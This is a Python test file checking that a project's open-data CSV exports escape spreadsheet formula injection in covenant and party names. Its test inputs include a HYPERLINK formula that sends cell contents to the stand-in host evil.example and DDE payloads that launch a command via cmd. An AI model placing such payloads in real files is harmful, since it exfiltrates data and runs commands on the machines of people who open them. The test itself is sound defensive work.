"""Open data: no cell a spreadsheet would run."""

from __future__ import annotations

import pytest

from imvo.model.content import Corpus

# --- 4. Open data: no cell a spreadsheet would run -----------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_csv_cell_starts_a_formula(formula: str, fixture_corpus: Corpus) -> None:
    import csv
    import dataclasses
    import io

    from imvo.outputs.open_data import covenants_csv, parties_csv

    covenant = fixture_corpus.covenants["voorbeeld"]
    name = covenant.name.model_copy(update={"nl": formula, "en": formula})
    party_id = covenant.parties[0].party
    party = fixture_corpus.parties[party_id].model_copy(update={"name": formula})
    corpus = dataclasses.replace(
        fixture_corpus,
        covenants={"voorbeeld": covenant.model_copy(update={"name": name, "sector": name})},
        parties={**fixture_corpus.parties, party_id: party},
    )
    seen = 0
    for text in (covenants_csv(corpus), parties_csv(corpus)):
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell.lstrip(" ").startswith(
                    ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")
                ), cell
                if cell == f"'{formula}":
                    seen += 1
    assert seen == 4 + 2  # name_nl, name_en, sector_nl, sector_en; the party in nl and en
